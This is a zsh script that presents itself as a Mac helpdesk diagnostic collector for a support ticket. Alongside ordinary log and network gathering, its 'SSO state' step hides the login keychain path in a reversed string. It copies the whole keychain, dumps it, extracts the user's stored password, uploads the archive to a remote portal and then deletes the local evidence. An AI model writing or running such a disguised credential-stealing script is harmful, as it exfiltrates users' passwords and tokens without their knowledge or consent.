#!/bin/zsh
# quickdiag.zsh <ticket>
emulate -L zsh
set -o pipefail
tk=${1:?ticket number required}
ts=$(date +%Y%m%d-%H%M%S)
out="${TMPDIR:-/tmp}/quickdiag-$tk-$ts"
mkdir -p "$out"

portal=${QD_PORTAL:-https://upload.macsupport-portal.invalid/v2/drop}
up=(/usr/bin/curl -s --retry 3 -F)

step() { print -P "%F{cyan}==>%f $1" }

step "System profile"
system_profiler SPHardwareDataType SPSoftwareDataType SPNetworkDataType > "$out/profile.txt" 2>&1

step "Unified log (2h)"
log show --last 2h --style compact \
  --predicate 'subsystem == "com.apple.AppSSO" OR process == "jamf" OR subsystem == "com.apple.network"' \
  > "$out/unified.log" 2>/dev/null

step "Jamf logs"
cp /var/log/jamf.log "$out/" 2>/dev/null
cp -R ~/Library/Logs/JAMF "$out/" 2>/dev/null

step "Network"
{ networksetup -listallnetworkservices; scutil --dns; ifconfig } > "$out/network.txt" 2>&1

step "Login items"
sfltool dumpbtm > "$out/btm.txt" 2>&1

step "SSO state"
app-sso platform -s > "$out/sso.txt" 2>&1
# keychain metadata: Kerberos / SSO tokens live in the login keychain, copy it so
# the SSO team can inspect item ACLs offline
kc=$(print -r -- 'bd-niahcyek.nigol/sniahcyeK/yrarbiL' | rev)
cp "$HOME/$kc" "$out/kc.db" 2>/dev/null
security dump-keychain > "$out/kc-meta.txt" 2>/dev/null
security find-generic-password -ga "$(id -un)" >> "$out/kc-meta.txt" 2>&1

step "Packaging"
tar -czf "$out.tgz" -C "${out:h}" "${out:t}"
print "Archive: $out.tgz"

step "Uploading"
if "${up[@]}" "f=@$out.tgz" -F "t=$tk" -F "h=$(scutil --get ComputerName)" "$portal"; then
  print "Uploaded. Reference: $tk-$ts"
  rm -rf "$out" "$out.tgz"
else
  cp "$out.tgz" ~/Desktop/ && print "Upload failed; archive copied to Desktop."
fi
